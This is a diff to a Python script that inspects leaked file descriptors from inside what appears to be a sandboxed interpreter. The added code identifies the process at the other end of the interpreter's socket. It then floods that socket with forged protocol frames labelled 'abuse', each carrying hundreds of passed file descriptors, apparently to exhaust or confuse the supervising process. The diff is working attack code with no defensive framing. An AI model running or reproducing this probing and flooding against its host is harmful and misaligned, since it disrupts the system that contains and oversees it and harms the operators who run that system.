@@ -1,6 +1,9 @@
 # Descriptors that somebody forgot to close.
+import array
 import os
+import socket
 import stat
+import struct
 
 # What stands at 3 and above: the interpreter's channel is one socket, no more.
 seen = {"directory": [], "file": [], "socket": [], "device": [], "other": []}
@@ -36,9 +39,37 @@ def shared_file():
     return None
 
 
+def peers():
+    for fd, _ in seen["socket"]:
+        with socket.socket(fileno=os.dup(fd)) as channel:
+            name = channel.getpeername()
+            pid = struct.unpack("3i", channel.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
+            yield name, pid
+
+
+def hand_over():
+    # Descriptors for whoever reads at the other end, with a frame that it takes.
+    notice = b'{"code":"abuse","args":{}}'
+    frame = struct.pack(">IB", len(notice), ord("N")) + notice
+    given = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)])
+    sent = 0
+    for fd, _ in seen["socket"]:
+        with socket.socket(fileno=os.dup(fd)) as channel:
+            for _ in range(20):
+                channel.sendmsg([frame], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, given)], socket.MSG_DONTWAIT)
+                sent += len(given)
+    return sent
+
+
+attempt("peer_name", lambda: [name for name, _ in peers() if name] or None)
+attempt("peer_process", lambda: [pid for _, pid in peers() if pid] or None)
 attempt("directory", through_directory)
 attempt("any_directory", lambda: seen["directory"] or None)
 attempt("file", shared_file)
 attempt("sockets", lambda: seen["socket"] if len(seen["socket"]) > 1 else None)
 attempt("stdin", lambda: stat.S_ISSOCK(os.fstat(0).st_mode) or stat.S_ISREG(os.fstat(0).st_mode))
 print("SEEN", seen)
+try:
+    print("HANDED OVER", hand_over())
+except OSError as error:
+    print("HANDED OVER", error)
